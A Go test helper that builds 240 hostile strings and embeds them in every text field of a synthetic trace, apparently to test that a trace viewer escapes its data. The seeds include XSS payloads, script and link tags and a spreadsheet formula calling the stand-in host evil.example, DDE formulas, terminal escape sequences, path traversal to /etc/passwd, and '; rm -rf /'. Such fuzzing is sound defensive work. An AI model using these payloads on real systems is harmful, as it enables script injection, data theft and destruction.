package tracetest

import (
	"fmt"
	"slices"
	"strings"
	"testing"
)

// Pwned is set by the scripts among the HostileNames: if it is defined in a page, the page
// has run one.
const Pwned = "window.__pwned"

// HostileNames returns 240 distinct names and values that would run a script, close an
// element, end a string, control a terminal, run a formula, or confuse a decoder, if data
// were interpreted.
func HostileNames() []string {
	const script = Pwned + "=1"
	seeds := []string{
		// Elements, or their ends.
		"<script>" + script + "</script>", "</script><script>" + script + "</script>", "</SCRIPT ><SCRIPT>" + script + "</SCRIPT>", "</script/x>",
		"<!--<script>" + script + "</script>-->", "<!--<script>", "<!--", "-->", "--!><script>" + script + "</script>", "]]>", "]]><script>" + script + "</script>", "<![CDATA[",
		"<img src=x onerror=" + script + ">", "\"><img src=x onerror=" + script + ">", "'><img src=x onerror=" + script + ">", "<img/src='x'/onerror=" + script + ">",
		"<svg onload=" + script + ">", "<svg/onload=" + script + ">", "<svg><script>" + script + "</script></svg>", "<math><mi//xlink:href=\"javascript:" + script + "\">",
		"<iframe src=\"javascript:" + script + "\"></iframe>", "<iframe srcdoc=\"<script>parent." + script + "</script>\">", "<body onload=" + script + ">",
		"<details open ontoggle=" + script + ">", "<script src=//evil.example/x.js></script>", "<script type=module>" + script + "</script>", "<noscript><p title=\"</noscript><img src=x onerror=" + script + ">\">",
		"<a href=\"javascript:" + script + "\">x</a>", "</style><script>" + script + "</script>", "</title><script>" + script + "</script>", "</textarea><script>" + script + "</script>",
		"</canvas><script>" + script + "</script>", "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//evil.example/x.css>",
		"<form action=//evil.example><input name=x autofocus>", "<object data=//evil.example>", "<embed src=//evil.example>", "<x id=\"data\">", "<plaintext>", "<template>", "<?php " + script + " ?>", "<%= " + script + " %>",
		// Attributes, strings, addresses.
		"\" autofocus onfocus=" + script + " x=\"", "' onmouseover='" + script, "` onclick=`" + script, "\" onmouseover=\"" + script, "x\" style=\"x:expression(" + script + ")",
		"javascript:" + script, "JaVaScRiPt:" + script, "java\tscript:" + script, " javascript:" + script, "data:text/html,<script>" + script + "</script>", "vbscript:" + script, "file:///etc/passwd", "//evil.example", "https://evil.example/?<b>",
		"${" + script + "}", "`${" + script + "}`", "{{constructor.constructor('" + script + "')()}}", "#{" + script + "}", "<%=7*7%>", "\\u003cscript\\u003e" + script, "\\x3cscript\\x3e", "&lt;script&gt;" + script, "&#60;script&#62;", "&#x3c;", "&amp;lt;", "%3Cscript%3E",
		"');" + script + ";//", "\";" + script + ";//", "\\\";" + script + ";//", "\\');" + script + ";//", "*/" + script + "/*", "//", "/*", ";" + script + ";", "\\", "\\\\", "\\\"", "\"", "'", "`", "\"\"", "\\u0000", "\\",
		// Invalid or invisible text.
		"\u2028" + script, "\u2029" + script, "a\u2028b\u2029c", "\u0085" + script, "\x00" + script, "a\x00b", "\x00</script>", "\xed\xa0\x80" + script, "\xed\xb0\x80<script>", "\xed\xa0\x80\xed\xb0\x80", "\xff\xfe<script>" + script, "\xc0\xbcscript>" + script,
		"\xff", "\xe4\xb8", "\xf4\x90\x80\x80", "\xf8\x88\x80\x80\x80", "\ufeff<script>" + script, "\ufffd", "\ufffe", "\uffff", "\U0010ffff", "\u200b", "\u200d", "\u00ad", "\u202eright to left", "\u202d\u202ca", "\u2066a\u2069", "a\u0300\u0301\u0302\u0303", "\U000e0041", "👩‍👩‍👧‍👦",
		"", " ", "\t", "\n", "\r\n", "\v\f", " a", "a ", strings.Repeat("W", 1000), strings.Repeat("<b>", 300), strings.Repeat("\"", 500), strings.Repeat("\u202e", 300),
		// Terminal sequences.
		"\x1b]52;c;cm0gLXJm\x07", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\", "\x1b[2J\x1b[H", "\x1b[31mred", "\x1b[6n", "\x1b[?1049h", "\x1bc", "\x1bP$qm\x1b\\", "\x1b_G\x1b\\", "\x1b(0", "\x9b2J", "\u009b2J", "\u009d52;c;cm0=\u009c", "\u0090q\u009c",
		"\r", "\rover", "\b\b\b", "\x07", "\x7f", "\x0e", "\x18", "\n\n\n", "\x1b[1A\x1b[2K", "\x1b]1337;File=:\x07",
		// Formulas, cells, lines.
		"=cmd|' /C calc'!A0", "+1", "+cmd|' /C calc'!A0", "-1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\x00=1+1", "\ufeff=1+1", "\u200b=1+1", "＝1+1", "＠SUM(A1)", "=HYPERLINK(\"http://evil.example?\"&A1)", "=1+1\",\"=1+1", "a,=1+1", "a\n=1+1", "a\"\n\"=1+1", "\\.", "'=1+1", "\"=1+1\"", "%0A=1+1",
		// Names with a meaning in programs.
		"__proto__", "constructor", "toString", "hasOwnProperty", "prototype", "__defineGetter__", "valueOf", "then", "NaN", "null", "undefined", "true", "-0", "1e999", "Infinity", "0", "[object Object]",
		// Styles.
		"expression(" + script + ")", "url(javascript:" + script + ")", "}body{display:none", "@import '//evil.example'", "red;background:url(//evil.example)",
		// Files, commands, formats.
		"../../etc/passwd", "a/b\\c", "$(" + script + ")", "; rm -rf /", "| cat", "%s%n%d", "%!d(MISSING)", "{\"ph\":\"X\"}", "\"},{\"ph\":\"X\",\"name\":\"x", "],\"x\":[",
	}
	frames := []string{"%s", "ok %s", "%s ok", "<b title='%s'>", "<!-- %s"}
	var names []string
	seen := make(map[string]bool)
	for _, frame := range frames {
		for _, s := range seeds {
			name := fmt.Sprintf(frame, s)
			if !seen[name] {
				seen[name] = true
				names = append(names, name)
			}
		}
	}
	return slices.Clip(names[:240])
}

// Hostile returns a trace that has each of the HostileNames wherever a trace has text: as
// name i+2 of goroutine i+1, its row, a task with key and values, an event, a counter, a
// wait and a hold; in notes and facts; as function, file and name of a stack.
func Hostile(t testing.TB) []byte {
	t.Helper()
	const perChunk = 30
	names := HostileNames()
	var b strings.Builder
	b.WriteString("header chunk=65536 clock=monotonic start=1000 mono=1000\nstate closed=1 tick=900000\n")
	for i, n := range names {
		if i%perChunk == 0 {
			b.WriteString("chunk blocks sealed\n")
		}
		fmt.Fprintf(&b, "name %d %q\nnote ticks=%d %q\n", i+2, n, 2000+i, n)
	}
	for i, n := range names {
		if i%perChunk == 0 {
			b.WriteString("chunk blocks sealed\n")
		}
		fmt.Fprintf(&b, "info \"program\" %q\ninfo %q %q\n", n, n, n)
		fmt.Fprintf(&b, "frame %d %q %q line=3 start=1\nstack %d %d\ncount ticks=3000 %d:%d:5:7\n", i+1, n, n, i+1, i+1, i+2, i+1)
	}
	b.WriteString("stop ticks=900000\n")
	for i, n := range names {
		if i%perChunk == 0 {
			b.WriteString("chunk records sealed\n")
		}
		id, g, at := i+2, i+1, 2000+10*i
		fmt.Fprintf(&b, "track #%d g=%d start=%d\n", id, g, at)
		fmt.Fprintf(&b, "task #%d g=%d start=%d stop=800000 cpu=0/unknown | string:%q key:#%d string:%q type:%q\n", id, g, at+1, n, id, n, n)
		fmt.Fprintf(&b, "taskf #%d g=%d start=%d stop=700000 cpu=0/unknown | string:%q\n", id, g, at+2, n)
		fmt.Fprintf(&b, "event #%d g=%d start=%d | string:%q\n", id, g, at+3, n)
		fmt.Fprintf(&b, "counter #%d g=%d start=%d value=int:1\n", id, g, at+4)
		fmt.Fprintf(&b, "wait #%d g=%d start=%d stop=%d cpu=0/unknown | addr:0x%x\n", id, g, at+5, at+6, 0x1000+i)
		fmt.Fprintf(&b, "hold #%d g=%d start=%d stop=%d cpu=0/unknown | addr:0x%x\n", id, g, at+6, at+7, 0x1000+i)
	}
	return Assemble(t, b.String())
}
